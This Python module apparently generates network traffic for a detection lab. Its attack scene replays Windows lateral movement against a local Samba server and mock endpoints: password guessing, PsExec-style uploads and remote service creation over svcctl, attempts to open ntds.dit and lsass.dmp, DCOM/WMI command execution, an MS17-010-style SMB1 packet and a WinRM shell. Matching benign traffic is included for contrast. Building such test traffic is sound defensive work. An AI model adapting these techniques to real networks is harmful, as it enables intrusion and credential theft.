"""SMB: the real Samba with smbclient and impacket; DCOM, WinRM and SMB1 as stand-ins that get the real bytes."""

import os
import struct
import uuid

from .common import begin
from .lab import sh
from .scenes import scene
from .web import curl, reply, site

NEEDS = {"smbd": "samba", "smbclient": "smbclient", "/usr/lib/python3/dist-packages/impacket": "python3-impacket"}
STUB = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0x80) + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64 + b"inert"

# Run with the system's Python, where impacket is installed.
CLIENT = r'''
import sys
from impacket.smbconnection import SMBConnection
from impacket.dcerpc.v5 import transport, scmr, rrp, samr, tsch, epm
from impacket.uuid import uuidtup_to_bin
host, mode = sys.argv[1:3]

def pipe(name, interface, call=None):
    try:
        t = transport.SMBTransport(host, 445, name, "anna", "inert")
        d = t.get_dce_rpc(); d.connect()
        d.bind(interface)
        if call: call(d)
        d.disconnect()
    except Exception as e:
        print(name, e)

def services(d):
    h = scmr.hROpenSCManagerW(d)["lpScHandle"]
    scmr.hRCreateServiceW(d, h, "inert\0", "inert\0", lpBinaryPathName="%COMSPEC% /Q /c echo true ^> \\\\127.0.0.1\\C$\\__output 2^>^&1\0")

def raw_create(d):
    scmr.hRCreateServiceW(d, b"\0" * 20, "inert\0", "inert\0", lpBinaryPathName="%COMSPEC% /Q /c echo true ^> \\\\127.0.0.1\\C$\\__output 2^>^&1\0")

if mode == "attack":
    for i in range(7):
        try: SMBConnection(host, host).login("anna", "guess%d" % i)
        except Exception: pass
    pipe(r"\svcctl", scmr.MSRPC_UUID_SCMR, services)
    pipe(r"\svcctl", scmr.MSRPC_UUID_SCMR, raw_create)
    pipe(r"\winreg", rrp.MSRPC_UUID_RRP, rrp.hOpenLocalMachine)
    pipe(r"\samr", samr.MSRPC_UUID_SAMR, samr.hSamrConnect)
    pipe(r"\atsvc", tsch.MSRPC_UUID_TSCHS)
    c = SMBConnection(host, host); c.login("anna", "inert")
    t = c.connectTree("IPC$")
    try: c.openFile(t, "PSEXESVC")
    except Exception: pass
    t = c.connectTree("C$")
    for name in ("Windows\\NTDS\\ntds.dit", "Temp\\lsass.dmp"):
        try: c.openFile(t, name)
        except Exception: pass
    c.logoff()
else:
    from impacket.dcerpc.v5 import srvs, wkst
    pipe(r"\srvsvc", srvs.MSRPC_UUID_SRVS, lambda d: srvs.hNetrShareEnum(d, 1))
    pipe(r"\wkssvc", wkst.MSRPC_UUID_WKST)
    try: SMBConnection(host, host).login("anna", "mistyped")
    except Exception: pass
    c = SMBConnection(host, host); c.login("anna", "inert")
    t = c.connectTree("reports")
    for name in ("svcctl-notes.txt", "atsvc.txt", "winregistry.md", "samroad.txt", "lsass.txt", "psexec-howto.txt"):
        try: c.openFile(t, name)
        except Exception: pass
    c.logoff()
'''


def samba(lab, host):
    for d in ("reports", "admin", "drive", "private", "state", "cache", "lock", "run", "ncalrpc"):
        os.makedirs(lab.path("smb", d), exist_ok=True)
    os.chmod(lab.path("smb/reports"), 0o777)
    t = lab.path("smb")
    conf = lab.write("smb/smb.conf", f"""[global]
workgroup = SHOP
netbios name = FILES
server role = standalone server
security = user
map to guest = never
private dir = {t}/private
state directory = {t}/state
cache directory = {t}/cache
lock directory = {t}/lock
pid directory = {t}/run
ncalrpc dir = {t}/ncalrpc
log file = {t}/log
log level = 0
disable spoolss = yes
load printers = no
smb ports = 445
server min protocol = NT1
server smb encrypt = off
passdb backend = tdbsam:{t}/private/passdb.tdb
username map = {t}/users.map
rpc start on demand helpers = yes
[reports]
path = {t}/reports
read only = no
[ADMIN$]
path = {t}/admin
read only = no
admin users = root
[C$]
path = {t}/drive
read only = no
""")
    lab.write("smb/users.map", "root = anna\n")
    sh("smbpasswd", "-c", conf, "-a", "-s", "root", input=b"inert\ninert\n")
    host.start("smbd", "-F", "--no-process-group", "-s", conf, port=445, wait=15)


def bind(interface, number=1):
    ctx = struct.pack("<HBB", 0, 1, 0) + uuid.UUID(interface).bytes_le + struct.pack("<HH", 0, 0) + uuid.UUID("8a885d04-1ceb-11c9-9fe8-08002b104860").bytes_le + struct.pack("<I", 2)
    body = struct.pack("<HHIBBH", 5840, 5840, 0, 1, 0, 0) + ctx
    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0, number) + body


def request(stub, opnum=0):
    body = struct.pack("<IHH", len(stub), 0, opnum) + stub
    return struct.pack("<BBBBIHHI", 5, 0, 0, 3, 0x10, 16 + len(body), 0, 2) + body


def endpoints(host):
    def handle(c):
        while c.recv(65536):
            c.sendall(struct.pack("<BBBBIHHI", 5, 0, 12, 3, 0x10, 16 + 8, 0, 1) + struct.pack("<HHI", 5840, 5840, 1))
    for port in (135, 49667):
        host.listen(port, handle)
    site(host, 5985, [(r"", reply(200, "<s:Envelope/>", "application/soap+xml;charset=UTF-8", "Microsoft-HTTPAPI/2.0"))])


SOAP = ["Content-Type: application/soap+xml;charset=UTF-8"]


def envelope(action, resource, body):
    return ('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" '
            'xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"><s:Header><a:Action>%s</a:Action><w:ResourceURI>%s</w:ResourceURI></s:Header><s:Body>%s</s:Body></s:Envelope>' % (action, resource, body))


CMD = "http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd"


@scene("attacks-windows-movement", **NEEDS)
def attacks(lab):
    """Samba (real): ADMIN$, C$, service, task, registry and account pipes, PsExec names, a program uploaded, logons guessed; WMI, WinRM, MS17-010 bytes"""
    intruder, files, desk = lab.host("intruder", 66), lab.host("files", 50), lab.host("desk", 51)
    samba(lab, files), endpoints(desk)
    begin(lab)
    exe = lab.write("PSEXESVC.exe", STUB)
    for share in ("ADMIN$", "C$"):
        intruder.run("smbclient", f"//{files.ip}/{share}", "-U", "anna%inert", "-c", f"put {exe} PSEXESVC.exe; ls")
    intruder.run("/usr/bin/python3", lab.write("client.py", CLIENT), files.ip, "attack", timeout=60)
    for interface in ("f309ad18-d86a-11d0-a075-00c04fb68820", "e3514235-4b06-11d1-ab04-00c04fc2dcd2", "c681d488-d850-11d0-8c52-00c04fd90f7e", "86d35949-83c9-4044-b424-db363231fd0c"):
        intruder.talk(desk.ip, 135 if interface[0] != "f" else 49667, bind(interface))
    intruder.talk(desk.ip, 49667, bind("9556dc99-828c-11cf-a37e-00aa003240c7"), request(b"\0" * 40 + b"cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1\0" + b"C:\\\0", 24))
    smb1 = b"\xffSMB" + b"\x32" + b"\0" * 4 + b"\x18\x07\xc0" + b"\0" * 12 + struct.pack("<HHHH", 2048, 65279, 2048, 65)
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x00A4D9A6, 0, 12, 66, 0, 78, 1, 0, 0x0E)
    pdu = smb1 + bytes([len(words) // 2]) + words + struct.pack("<H", 13) + b"\0" * 13
    intruder.talk(files.ip, 445, struct.pack(">I", len(pdu)) + pdu)
    win = f"http://{desk.ip}:5985/wsman"
    curl(intruder, win, envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Create", CMD, "<rsp:Shell><rsp:InputStreams>stdin</rsp:InputStreams></rsp:Shell>"), headers=SOAP, agent="Microsoft WinRM Client")
    curl(intruder, win, envelope("http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command", CMD, "<rsp:CommandLine><rsp:Command>whoami</rsp:Command></rsp:CommandLine>"), headers=SOAP, agent="Microsoft WinRM Client")
    curl(intruder, win, b"--Encrypted Boundary\r\nContent-Type: application/HTTP-SPNEGO-session-encrypted\r\nOriginalContent: type=application/soap+xml;charset=UTF-8;Length=1600\r\n--Encrypted Boundary\r\nContent-Type: application/octet-stream\r\n" + bytes(range(64)) + b"--Encrypted Boundary--\r\n",
         headers=['Content-Type: multipart/encrypted;protocol="application/HTTP-SPNEGO-session-encrypted";boundary="Encrypted Boundary"'], agent="Microsoft WinRM Client")


@scene("benign-windows-movement", **NEEDS)
def benign(lab):
    """Samba (real): files listed, read and written in an ordinary share, shares listed, one mistyped password; endpoint mapper; WinRM identify"""
    user, files, desk = lab.host("user", 30), lab.host("files", 50), lab.host("desk", 51)
    samba(lab, files), endpoints(desk)
    begin(lab)
    report = lab.write("report.csv", "MZ,This program is the price list\n1,2\n")
    user.run("smbclient", f"//{files.ip}/reports", "-U", "anna%inert", "-c", f"put {report} svcctl-notes.txt; put {report} ADMIN$.csv; mkdir PSEX; ls; get svcctl-notes.txt {lab.path('back')}")
    user.run("smbclient", "-L", files.ip, "-U", "anna%inert")
    user.run("smbclient", f"//{files.ip}/reports", "-m", "NT1", "--option=client min protocol=NT1", "-U", "anna%inert", "-c", "ls")
    user.run("/usr/bin/python3", lab.write("client.py", CLIENT), files.ip, "daily", timeout=60)
    user.talk(desk.ip, 135, bind("e1af8308-5d1f-11c9-91a4-08002b14a0fa"), request(b"cmd.exe is a program; ADMIN$ is a share; %COMSPEC%", 3))
    curl(user, f"http://{desk.ip}:5985/wsman", envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Get", "http://schemas.microsoft.com/wbem/wsman/1/wmi/root/cimv2/Win32_OperatingSystem", ""), headers=SOAP)
    curl(user, f"http://{desk.ip}:5985/wsman", '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Identify/></s:Body></s:Envelope>', headers=SOAP)
